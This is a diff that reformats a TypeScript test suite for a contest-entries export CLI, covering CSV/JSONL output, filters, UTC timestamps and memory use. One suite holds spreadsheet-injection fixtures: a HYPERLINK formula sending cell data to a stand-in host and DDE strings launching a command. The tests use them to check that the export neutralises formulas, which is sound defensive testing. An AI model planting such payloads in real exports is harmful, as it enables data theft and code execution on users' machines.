@@ -29,14 +29,30 @@ describe('entries export: format and filters', () => {
     campaignId = world.campaign.id;
     prizeId = makePrize(ctx, campaignId, 'live').id;
     seedEntries(ctx, {
-      campaignId, count: 20,
+      campaignId,
+      count: 20,
       status: (i) => (i % 4 === 3 ? 'REJECTED' : i % 4 === 2 ? 'PENDING' : 'APPROVED'),
       name: (i) => (i < TRICKY_NAMES.length ? TRICKY_NAMES[i] : i === 7 ? null : `Participant ${i}`),
       award: (i) => (i === 0 ? prizeId : null),
-      lucky: (i) => (i === 0 ? [[1, 7], [0, 42]] : i === 1 ? [[0, 1]] : []),
-      rejection: (i) => (i % 4 === 3 ? [{ code: 'fiscal_key_invalid', message: 'x' }, { code: 'duplicate_access_key', message: 'y, z' }] : []),
+      lucky: (i) =>
+        i === 0
+          ? [
+              [1, 7],
+              [0, 42],
+            ]
+          : i === 1
+            ? [[0, 1]]
+            : [],
+      rejection: (i) =>
+        i % 4 === 3
+          ? [
+              { code: 'fiscal_key_invalid', message: 'x' },
+              { code: 'duplicate_access_key', message: 'y, z' },
+            ]
+          : [],
       // Stored as the integrator sent it; exported in UTC like every other timestamp.
-      grantedAt: (i) => (i === 0 ? '2026-11-22T09:00:00-03:00' : i === 1 ? '2026-11-22t14:30:00.123456789+0530' : '2026-11-22T12:00:00.000Z'),
+      grantedAt: (i) =>
+        i === 0 ? '2026-11-22T09:00:00-03:00' : i === 1 ? '2026-11-22t14:30:00.123456789+0530' : '2026-11-22T12:00:00.000Z',
     });
     seedEntries(ctx, { campaignId, livemode: 0, count: 5, from: 100 });
     // Another campaign's entries never leak into this export.
@@ -51,7 +67,10 @@ describe('entries export: format and filters', () => {
     assert.ok(start >= 0, 'the table is still introduced by that sentence');
     const table = page.slice(start).split('\n\n')[1];
     // The first cell of each row, after the header and its rule, names one or more columns.
-    const documented = table.split('\n').slice(2).flatMap((row) => [...row.split('|')[1].matchAll(/`([a-z_0-9]+)`/g)].map((m) => m[1]));
+    const documented = table
+      .split('\n')
+      .slice(2)
+      .flatMap((row) => [...row.split('|')[1].matchAll(/`([a-z_0-9]+)`/g)].map((m) => m[1]));
     assert.deepEqual(documented, [...EXPORT_COLUMNS]);
   });
 
@@ -66,8 +85,11 @@ describe('entries export: format and filters', () => {
     assert.deepEqual(records[0], [...EXPORT_COLUMNS]);
     assert.equal(records.length, 26);
     const rows = records.slice(1).map((r) => Object.fromEntries(EXPORT_COLUMNS.map((c, i) => [c, r[i]])));
-    assert.deepEqual(rows.slice(0, TRICKY_NAMES.length).map((r) => r.full_name), TRICKY_NAMES.map((n) => (n.startsWith('=') ? `'${n}` : n)),
-      'names with commas, quotes and newlines round-trip unchanged; a formula gets its apostrophe');
+    assert.deepEqual(
+      rows.slice(0, TRICKY_NAMES.length).map((r) => r.full_name),
+      TRICKY_NAMES.map((n) => (n.startsWith('=') ? `'${n}` : n)),
+      'names with commas, quotes and newlines round-trip unchanged; a formula gets its apostrophe',
+    );
     assert.equal(rows[7].full_name, '', 'null is an empty field');
     assert.equal(rows[0].award_status, 'awarded');
     assert.equal(rows[0].award_prize_id, prizeId);
@@ -77,28 +99,55 @@ describe('entries export: format and filters', () => {
     assert.equal(rows[0].consent_term_version, 'v1');
     assert.equal(rows[0].consent_granted_at, '2026-11-22T12:00:00.000Z', 'sent as 2026-11-22T09:00:00-03:00');
     assert.equal(rows[1].consent_granted_at, '2026-11-22T09:00:00.123Z', 'sent as 2026-11-22t14:30:00.123456789+0530');
-    assert.deepEqual(rows.map((r) => r.livemode), [...Array(20).fill('true'), ...Array(5).fill('false')]);
-    assert.deepEqual(readdirSync(dir).filter((f) => f.includes('.tmp')), [], 'no temp file left behind');
+    assert.deepEqual(
+      rows.map((r) => r.livemode),
+      [...Array(20).fill('true'), ...Array(5).fill('false')],
+    );
+    assert.deepEqual(
+      readdirSync(dir).filter((f) => f.includes('.tmp')),
+      [],
+      'no temp file left behind',
+    );
   });
 
   test('JSONL to stdout: one JSON object per line with typed values, filtered by --mode and --status', async () => {
-    const res = await runCli(['entries', 'export', '--campaign', campaignId, '--format', 'jsonl', '--mode', 'live', '--status', 'approved'], { dbPath });
+    const res = await runCli(
+      ['entries', 'export', '--campaign', campaignId, '--format', 'jsonl', '--mode', 'live', '--status', 'approved'],
+      { dbPath },
+    );
     assert.equal(res.code, 0, res.stderr);
-    const lines = res.stdout.trimEnd().split('\n').map((l) => JSON.parse(l));
+    const lines = res.stdout
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     assert.equal(lines.length, 10);
     assert.ok(lines.every((l) => l.status === 'APPROVED' && l.livemode === true));
     assert.deepEqual(Object.keys(lines[0]), [...EXPORT_COLUMNS]);
-    assert.deepEqual(lines[0].lucky_numbers, [{ series: '0', order_number: '00042' }, { series: '1', order_number: '00007' }]);
+    assert.deepEqual(lines[0].lucky_numbers, [
+      { series: '0', order_number: '00042' },
+      { series: '1', order_number: '00007' },
+    ]);
     assert.equal(lines[0].full_name, TRICKY_NAMES[0]);
-    assert.deepEqual(lines.slice(0, 2).map((l) => l.consent_granted_at), ['2026-11-22T12:00:00.000Z', '2026-11-22T09:00:00.123Z'], 'in UTC, as every timestamp');
+    assert.deepEqual(
+      lines.slice(0, 2).map((l) => l.consent_granted_at),
+      ['2026-11-22T12:00:00.000Z', '2026-11-22T09:00:00.123Z'],
+      'in UTC, as every timestamp',
+    );
     for (const l of lines) {
-      for (const column of EXPORT_COLUMNS.filter((c) => c.endsWith('_at'))) assert.ok(l[column] === null || /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/.test(l[column]), `${column} ${l[column]}`);
+      for (const column of EXPORT_COLUMNS.filter((c) => c.endsWith('_at')))
+        assert.ok(l[column] === null || /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/.test(l[column]), `${column} ${l[column]}`);
     }
     assert.match(res.stderr, /^exported 10 entries in \d+ ms\n$/, 'stderr has the summary and, not being a TTY, no progress bar');
     const rejected = await runCli(['entries', 'export', '--campaign', campaignId, '--format', 'jsonl', '--status', 'REJECTED'], { dbPath });
-    const reasons = rejected.stdout.trimEnd().split('\n').map((l) => JSON.parse(l).rejection_reasons);
+    const reasons = rejected.stdout
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l).rejection_reasons);
     assert.equal(reasons.length, 5);
-    assert.deepEqual(reasons[0], [{ code: 'fiscal_key_invalid', message: 'x' }, { code: 'duplicate_access_key', message: 'y, z' }]);
+    assert.deepEqual(reasons[0], [
+      { code: 'fiscal_key_invalid', message: 'x' },
+      { code: 'duplicate_access_key', message: 'y, z' },
+    ]);
   });
 
   test('bad options and unknown campaigns fail with one line and exit 1, and leave no file', async () => {
@@ -120,7 +169,10 @@ describe('entries export: format and filters', () => {
   });
 
   test('the progress bar shows percent, counts, rate and ETA', () => {
-    assert.equal(renderProgress({ done: 25_000, total: 100_000, elapsedMs: 500 }), '[######------------------]  25%  25,000/100,000  50,000 rows/s  ETA 2s');
+    assert.equal(
+      renderProgress({ done: 25_000, total: 100_000, elapsedMs: 500 }),
+      '[######------------------]  25%  25,000/100,000  50,000 rows/s  ETA 2s',
+    );
     assert.equal(renderProgress({ done: 0, total: 0, elapsedMs: 0 }), '[########################] 100%  0/0  0 rows/s  ETA ?');
   });
 });
@@ -133,8 +185,8 @@ describe('entries export: spreadsheet formulas from the API are never run', () =
   const FORMULAS: Array<[field: string, value: string]> = [
     ['full_name', '=HYPERLINK("https://evil.example/?d="&A1,"Click")'],
     ['address_line_1', "+cmd|' /C calc'!A0"],
-    ['address_line_2', '@SUM(1+1)*cmd|\' /C calc\'!A0'],
-    ['neighborhood', '-2+3+cmd|\' /C calc\'!A0'],
+    ['address_line_2', "@SUM(1+1)*cmd|' /C calc'!A0"],
+    ['neighborhood', "-2+3+cmd|' /C calc'!A0"],
     ['city', '=1+1'],
   ];
   const HARMLESS = 'Ana =not at the start';
@@ -158,7 +210,11 @@ describe('entries export: spreadsheet formulas from the API are never run', () =
 
       const jsonl = await runCli(['entries', 'export', '--campaign', w.campaign.id, '--format', 'jsonl'], { dbPath: t.dbPath });
       assert.equal(jsonl.code, 0, jsonl.stderr);
-      const line = jsonl.stdout.trimEnd().split('\n').map((l) => JSON.parse(l)).find((l) => l.entry_id === res0.entry_id);
+      const line = jsonl.stdout
+        .trimEnd()
+        .split('\n')
+        .map((l) => JSON.parse(l))
+        .find((l) => l.entry_id === res0.entry_id);
       for (const [field, value] of FORMULAS) assert.equal(line[field], value, `${field} as stored`);
     } finally {
       await t.close();
@@ -168,7 +224,10 @@ describe('entries export: spreadsheet formulas from the API are never run', () =
 
 /** Runs the CLI and samples the child's peak RSS (VmHWM) from /proc until it exits. */
 function exportPeakRss(args: string[]): Promise<{ code: number | null; peakKb: number; stderr: string }> {
-  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'cli/ces.ts'), ...args], { cwd: ROOT, stdio: ['ignore', 'ignore', 'pipe'] });
+  const child = spawn(process.execPath, ['--import', 'tsx', join(ROOT, 'cli/ces.ts'), ...args], {
+    cwd: ROOT,
+    stdio: ['ignore', 'ignore', 'pipe'],
+  });
   let peakKb = 0;
   let stderr = '';
   child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
@@ -181,10 +240,12 @@ function exportPeakRss(args: string[]): Promise<{ code: number | null; peakKb: n
     }
   };
   const timer = setInterval(sample, 5);
-  return new Promise((resolve) => child.on('exit', (code) => {
-    clearInterval(timer);
-    resolve({ code, peakKb, stderr });
-  }));
+  return new Promise((resolve) =>
+    child.on('exit', (code) => {
+      clearInterval(timer);
+      resolve({ code, peakKb, stderr });
+    }),
+  );
 }
 
 describe('entries export: memory stays flat', () => {
@@ -201,7 +262,13 @@ describe('entries export: memory stays flat', () => {
     large = makeCampaign(ctx).campaign.id;
     const prizeId = makePrize(ctx, large, 'live', 1000).id;
     seedEntries(ctx, { campaignId: small, count: 10_000, lucky: (i) => [[0, i % 100000]] });
-    seedEntries(ctx, { campaignId: large, count: 100_000, lucky: (i) => [[0, i % 100000]], award: (i) => (i % 100 === 0 ? prizeId : null), name: (i) => `Participant "${i}", of the large campaign` });
+    seedEntries(ctx, {
+      campaignId: large,
+      count: 100_000,
+      lucky: (i) => [[0, i % 100000]],
+      award: (i) => (i % 100 === 0 ? prizeId : null),
+      name: (i) => `Participant "${i}", of the large campaign`,
+    });
     ctx.db.close();
   });
   after(() => rmSync(dir, { recursive: true, force: true }));
@@ -213,7 +280,10 @@ describe('entries export: memory stays flat', () => {
     assert.equal(largeRun.code, 0, largeRun.stderr);
     t.diagnostic(`peak RSS: 10k rows ${(smallRun.peakKb / 1024).toFixed(1)} MB, 100k rows ${(largeRun.peakKb / 1024).toFixed(1)} MB`);
     assert.ok(smallRun.peakKb > 0 && largeRun.peakKb > 0, 'RSS was sampled');
-    assert.ok(largeRun.peakKb - smallRun.peakKb < 25 * 1024, `peak grew by ${((largeRun.peakKb - smallRun.peakKb) / 1024).toFixed(1)} MB for 10x the rows`);
+    assert.ok(
+      largeRun.peakKb - smallRun.peakKb < 25 * 1024,
+      `peak grew by ${((largeRun.peakKb - smallRun.peakKb) / 1024).toFixed(1)} MB for 10x the rows`,
+    );
     const records: string[][] = parse(readFileSync(join(dir, 'large.csv'), 'utf8'));
     assert.equal(records.length, 100_001);
     assert.equal(records[1][EXPORT_COLUMNS.indexOf('full_name')], 'Participant "0", of the large campaign');
